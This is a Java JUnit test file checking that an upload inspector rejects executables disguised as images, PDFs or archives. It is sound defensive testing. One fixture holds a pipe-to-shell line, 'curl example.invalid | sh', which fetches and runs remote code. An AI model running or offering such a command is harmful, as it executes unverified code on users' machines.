package tongban.materials;

import static tongban.materials.Inspections.assertRejected;
import static tongban.materials.RejectionCode.EXECUTABLE_NOT_ALLOWED;
import static tongban.materials.Uploads.IMAGES_OR_PDF;
import static tongban.materials.Uploads.file;

import java.nio.charset.StandardCharsets;
import org.assertj.core.api.Assertions;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/** Programs, scripts and libraries are refused whatever they are called or declared, and inside other files. */
class DisguisedProgramTests {

    private static MaterialsInspector inspector;

    @BeforeAll
    static void start() {
        inspector = new MaterialsInspector(InspectionLimits.defaults());
    }

    @AfterAll
    static void stop() {
        inspector.close();
    }

    @Test
    void anElfExecutableNamedPhotoJpgAndDeclaredAsJpegIsRefusedAsAProgram() {
        InspectedMaterial result = assertRejected(inspector.inspect(file("photo.jpg", "image/jpeg", Uploads.elf()),
                IMAGES_OR_PDF), EXECUTABLE_NOT_ALLOWED);
        Assertions.assertThat(result.detectedType()).isEqualTo("application/x-executable");
    }

    @Test
    void aWindowsExecutableNamedPhotoJpgAndDeclaredAsJpegIsRefusedAsAProgram() {
        InspectedMaterial result = assertRejected(inspector.inspect(file("photo.jpg", "image/jpeg", Uploads.pe()),
                IMAGES_OR_PDF), EXECUTABLE_NOT_ALLOWED);
        Assertions.assertThat(result.detectedType()).isEqualTo("application/x-msdownload");
    }

    @Test
    void aShellScriptDeclaredAsPdfIsRefusedAsAProgram() {
        assertRejected(inspector.inspect(file("statement.pdf", "application/pdf", Uploads.shellScript()),
                IMAGES_OR_PDF), EXECUTABLE_NOT_ALLOWED);
    }

    @Test
    void aJavaArchiveSentAsAZipIsRefusedAsAProgram() {
        byte[] jar = Uploads.zip("META-INF/MANIFEST.MF",
                "Manifest-Version: 1.0\nMain-Class: Evil\n".getBytes(StandardCharsets.US_ASCII));

        InspectedMaterial result = assertRejected(inspector.inspect(file("documents.zip", "application/zip", jar),
                IMAGES_OR_PDF), EXECUTABLE_NOT_ALLOWED);
        Assertions.assertThat(result.detectedType()).isEqualTo("application/java-archive");
    }

    @Test
    void plainTextNamedAsAShellScriptIsRefusedAsAScript() {
        assertRejected(inspector.inspect(file("install.sh", "text/plain",
                "curl example.invalid | sh\n".getBytes(StandardCharsets.US_ASCII)), IMAGES_OR_PDF), EXECUTABLE_NOT_ALLOWED);
    }

    @Test
    void aPdfCarryingAnAttachedExecutableIsRefused() {
        assertRejected(inspector.inspect(file("form.pdf", "application/pdf",
                Uploads.pdfWithAttachment("viewer.exe", Uploads.pe())), IMAGES_OR_PDF), EXECUTABLE_NOT_ALLOWED);
    }

    @Test
    void aZipHoldingAnExecutableIsRefused() {
        assertRejected(inspector.inspect(file("photos.zip", "application/zip", Uploads.zip("bin/tool", Uploads.elf())),
                Uploads.spec(Uploads.MATERIAL, "application/zip")), EXECUTABLE_NOT_ALLOWED);
    }
}
